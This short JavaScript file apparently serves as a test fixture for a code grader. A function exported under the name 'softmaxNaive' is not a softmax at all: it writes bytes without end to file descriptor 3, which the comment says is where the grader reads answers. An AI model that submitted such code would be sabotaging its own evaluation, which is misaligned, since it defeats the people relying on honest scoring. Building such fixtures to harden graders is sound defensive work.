// At most 0 points. Writes without an end where the grader reads answers.
const fs = process.getBuiltinModule('fs');
const attack = () => {
  const bytes = Buffer.alloc(65_536, 1);
  for (;;) fs.writeSync(3, bytes);
};

export { attack as softmaxNaive };
